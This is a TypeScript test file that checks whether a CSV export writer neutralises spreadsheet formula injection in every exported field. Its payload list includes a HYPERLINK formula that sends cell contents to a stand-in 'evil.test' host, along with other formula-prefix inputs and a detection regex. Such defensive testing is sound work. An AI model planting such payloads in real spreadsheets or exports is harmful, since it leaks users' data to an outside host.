// Formula injection, generated over every exported field of every export: each resource's export writes one
// column per returned field of its record schema (src/server/crud/csv-export.ts). For every such field a
// value of its declared type carrying a formula is written through the export's own writer, read back, and
// no cell may start as a formula (=, +, -, @, tab, CR, LF), whatever the field's type: a string, a list of
// strings (customer tags), an object, a number.
import { describe, expect, it } from 'vitest';
import { resources } from '../../src/server/resources/index.ts';
import { csvLine, exportFields } from '../../src/server/crud/csv-export.ts';
import { parseCsv, toCsv } from '../../src/server/catalogue/csv.ts';
import type { JsonSchemaProperty } from '../../src/shared/resource-schema.ts';

const payloads = [
  '=HYPERLINK("http://evil.test/?x="&A1,"click")',
  '+1+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  ' =1',
];
const formula = /^[=+\-@\t\r\n]/;

/** Values of the field's declared type that carry the payload. */
function valuesOf(property: JsonSchemaProperty, payload: string): unknown[] {
  const types = ([] as string[]).concat((property.type as string | string[] | undefined) ?? ['string']);
  const values: unknown[] = [];
  for (const type of types) {
    if (type === 'string') values.push(payload);
    if (type === 'array') values.push([payload], ['plain', payload], [payload, payload]);
    if (type === 'object') values.push({ note: payload });
    if (type === 'number' || type === 'integer') values.push(-1);
  }
  // Whatever the declared type, a wrong-typed value must not slip through either.
  values.push(payload, [payload]);
  return values;
}

const exports = resources.filter((r) => r.operations.includes('list'));

describe('CSV export writer', () => {
  it('covers every resource with a list', () => expect(exports.length).toBeGreaterThan(20));

  for (const resource of exports) {
    const fields = exportFields(resource.schema);
    it(`${resource.name}: every exported field (${fields.length}) comes out inert`, () => {
      let cells = 0;
      for (const field of fields)
        for (const payload of payloads)
          for (const value of valuesOf(resource.schema.properties[field]!, payload)) {
            const row = fields.map((f) => (f === field ? value : null));
            const [parsed] = parseCsv(csvLine(row));
            const cell = parsed![fields.indexOf(field)]!;
            cells++;
            if (typeof value === 'number') continue;
            expect(cell, `${resource.name}.${field} = ${JSON.stringify(value)}`).not.toMatch(formula);
            expect(cell.trimStart(), `${resource.name}.${field} = ${JSON.stringify(value)}`).not.toMatch(
              /^[=+\-@]/,
            );
          }
      expect(cells).toBeGreaterThan(0);
    });
  }

  it('the templates go through the same writer', () => {
    const [row] = parseCsv(toCsv([['=1+1', '@x', -5, null]]));
    expect(row).toEqual(["'=1+1", "'@x", '-5', '']);
  });

  it('keeps plain values and numbers as they are', () => {
    const [row] = parseCsv(csvLine(['Ada', 12.5, -3, ['vip', 'wholesale'], 'a, "b"', null]));
    expect(row).toEqual(['Ada', '12.5', '-3', 'vip; wholesale', 'a, "b"', '']);
  });
});
